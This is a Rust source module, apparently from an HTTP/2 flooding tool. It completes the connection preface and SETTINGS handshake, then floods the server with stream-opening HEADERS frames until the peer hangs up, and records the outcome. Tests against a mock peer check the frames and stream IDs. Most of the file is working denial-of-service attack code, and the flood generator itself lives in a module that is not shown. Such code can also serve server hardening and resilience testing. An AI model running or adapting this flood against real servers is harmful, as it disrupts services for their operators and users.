//! One adversarial connection: preface, SETTINGS exchange, then the flood
//! until the failure detector fires.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Instant;
use tempest_traits::{FloodReport, TerminationCause, Terminate};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, ReadHalf, WriteHalf};
use tokio::task::AbortHandle;
use tracing::{debug, info, warn};

use crate::detector::FailureDetector;
use crate::error::{Error, Result};
use crate::flood::FloodDriver;
use crate::frame::{FrameEncoder, CONNECTION_PREFACE};
use crate::handshake::{Handshake, Progress};
use crate::transport::{ConnectOptions, TransportBuilder};

/// Releases the inbound half of the transport when the detector fires.
struct ReleaseInbound(AbortHandle);

impl Terminate for ReleaseInbound {
    fn request_termination(&self) {
        self.0.abort();
    }
}

/// Connects to `addr` and floods it.
pub async fn run(
    addr: SocketAddr,
    options: ConnectOptions,
    detector: Arc<FailureDetector>,
) -> Result<FloodReport> {
    let stream = match TransportBuilder::connect(addr, options).await {
        Ok(stream) => stream,
        Err(e) => {
            detector.observe(TerminationCause::ConnectFailed(e.to_string()));
            return Err(e);
        }
    };
    info!("Connected to {}", addr);
    drive(stream, detector).await
}

/// Floods an already established transport.
///
/// Any failure, before or after the handshake, goes through `detector` so
/// teardown of registered contexts happens exactly once on every path.
pub async fn drive<S>(stream: S, detector: Arc<FailureDetector>) -> Result<FloodReport>
where
    S: AsyncRead + AsyncWrite + Send + 'static,
{
    let started = Instant::now();
    let (mut rd, mut wr) = tokio::io::split(stream);
    let mut encoder = FrameEncoder::new();

    if let Err(e) = handshake(&mut rd, &mut wr, &mut encoder).await {
        warn!("Handshake did not complete: {}", e);
        detector.observe(match &e {
            Error::Io(io) => TerminationCause::ReadFailed(io.to_string()),
            _ => TerminationCause::PeerClosed,
        });
        return Err(e);
    }
    debug!("SETTINGS acknowledged, flooding");

    let drain = tokio::spawn(drain_inbound(rd, detector.clone()));
    detector.on_failure(Arc::new(ReleaseInbound(drain.abort_handle())));

    let mut flood = FloodDriver::new(encoder);
    let outcome = flood.run(&mut wr, &detector.cancellation()).await;
    drop(wr);

    match outcome {
        Ok(()) => {}
        Err(Error::Io(e)) => {
            detector.observe(TerminationCause::WriteFailed(e.to_string()));
        }
        Err(e) => {
            detector.observe(TerminationCause::WriteFailed(e.to_string()));
            drain.abort();
            let _ = drain.await;
            return Err(e);
        }
    }
    drain.abort();
    let _ = drain.await;

    let report = FloodReport {
        frames_written: flood.frames_written(),
        last_stream_id: flood.last_stream_id(),
        cause: detector.cause().unwrap_or(TerminationCause::PeerClosed),
        elapsed_ms: started.elapsed().as_millis(),
    };
    info!(
        "Flood ended after {} frames (last stream {}): {:?}",
        report.frames_written, report.last_stream_id, report.cause
    );
    Ok(report)
}

async fn handshake<S>(
    rd: &mut ReadHalf<S>,
    wr: &mut WriteHalf<S>,
    encoder: &mut FrameEncoder,
) -> Result<()>
where
    S: AsyncRead + AsyncWrite,
{
    wr.write_all(CONNECTION_PREFACE).await?;
    wr.write_all(encoder.settings()).await?;

    let mut state = Handshake::new();
    loop {
        if rd.read_buf(state.input_mut()).await? == 0 {
            return Err(Error::HandshakeIncomplete);
        }
        match state.step() {
            Progress::NeedMore => continue,
            Progress::SendAck | Progress::Ignored => break,
        }
    }

    wr.write_all(encoder.settings_ack()).await?;
    Ok(())
}

/// Discards everything the peer sends after the handshake; only the end of
/// the stream matters.
async fn drain_inbound<S>(mut rd: ReadHalf<S>, detector: Arc<FailureDetector>)
where
    S: AsyncRead,
{
    let mut sink = vec![0u8; 16 * 1024];
    loop {
        match rd.read(&mut sink).await {
            Ok(0) => {
                detector.observe(TerminationCause::PeerClosed);
                return;
            }
            Ok(_) => {}
            Err(e) => {
                detector.observe(TerminationCause::ReadFailed(e.to_string()));
                return;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::frame::FRAME_HEADER_LEN;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use tokio::io::DuplexStream;

    const PEER_SETTINGS: &[u8] = &[0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 3, 0, 0, 0, 100];

    #[derive(Default)]
    struct CountingTarget(AtomicUsize);

    impl Terminate for CountingTarget {
        fn request_termination(&self) {
            self.0.fetch_add(1, Ordering::SeqCst);
        }
    }

    async fn read_client_opening(peer: &mut DuplexStream) {
        let mut preface = [0u8; 24];
        peer.read_exact(&mut preface).await.unwrap();
        assert_eq!(&preface[..], CONNECTION_PREFACE);

        let mut settings = [0u8; FRAME_HEADER_LEN];
        peer.read_exact(&mut settings).await.unwrap();
        assert_eq!(settings, [0, 0, 0, 4, 0, 0, 0, 0, 0]);
    }

    /// Plays a peer that allows `limit` abusive streams, then hangs up.
    async fn limiting_peer(mut peer: DuplexStream, limit: usize, split_settings: bool) -> Vec<u32> {
        read_client_opening(&mut peer).await;

        if split_settings {
            peer.write_all(&PEER_SETTINGS[..FRAME_HEADER_LEN]).await.unwrap();
            tokio::task::yield_now().await;
            peer.write_all(&PEER_SETTINGS[FRAME_HEADER_LEN..]).await.unwrap();
        } else {
            peer.write_all(PEER_SETTINGS).await.unwrap();
        }

        let mut ack = [0u8; FRAME_HEADER_LEN];
        peer.read_exact(&mut ack).await.unwrap();
        assert_eq!(ack, [0, 0, 0, 4, 1, 0, 0, 0, 0]);

        let mut ids = Vec::with_capacity(limit);
        let mut frame = [0u8; FRAME_HEADER_LEN + 1];
        for _ in 0..limit {
            peer.read_exact(&mut frame).await.unwrap();
            assert_eq!(&frame[..5], &[0, 0, 1, 1, 0x5]);
            assert_eq!(frame[9], 0x88);
            ids.push(u32::from_be_bytes([frame[5], frame[6], frame[7], frame[8]]));
        }
        ids
    }

    #[tokio::test]
    async fn floods_until_peer_hangs_up() {
        let (client, peer) = tokio::io::duplex(256);
        let detector = FailureDetector::new();
        let target = Arc::new(CountingTarget::default());
        detector.on_failure(target.clone());

        let peer_task = tokio::spawn(limiting_peer(peer, 100, false));
        let report = drive(client, detector.clone()).await.unwrap();
        let ids = peer_task.await.unwrap();

        assert_eq!(ids, (0..100).map(|i| 1 + 2 * i).collect::<Vec<u32>>());
        assert!(report.frames_written >= 100);
        assert_eq!(report.last_stream_id as u64, report.frames_written * 2 - 1);
        assert!(detector.cancellation().is_set());
        assert_eq!(target.0.load(Ordering::SeqCst), 1);
    }

    #[tokio::test]
    async fn settings_split_across_deliveries() {
        let (client, peer) = tokio::io::duplex(256);
        let detector = FailureDetector::new();

        let peer_task = tokio::spawn(limiting_peer(peer, 3, true));
        let report = drive(client, detector).await.unwrap();

        assert_eq!(peer_task.await.unwrap(), vec![1, 3, 5]);
        assert!(report.frames_written >= 3);
    }

    #[tokio::test]
    async fn peer_closing_before_settings_is_not_a_flood() {
        let (client, mut peer) = tokio::io::duplex(256);
        let detector = FailureDetector::new();
        let target = Arc::new(CountingTarget::default());
        detector.on_failure(target.clone());

        let peer_task = tokio::spawn(async move {
            read_client_opening(&mut peer).await;
            peer.write_all(&PEER_SETTINGS[..4]).await.unwrap();
        });

        let err = drive(client, detector.clone()).await.unwrap_err();
        peer_task.await.unwrap();

        assert!(matches!(err, Error::HandshakeIncomplete));
        assert!(detector.has_fired());
        assert_eq!(target.0.load(Ordering::SeqCst), 1);
    }
}
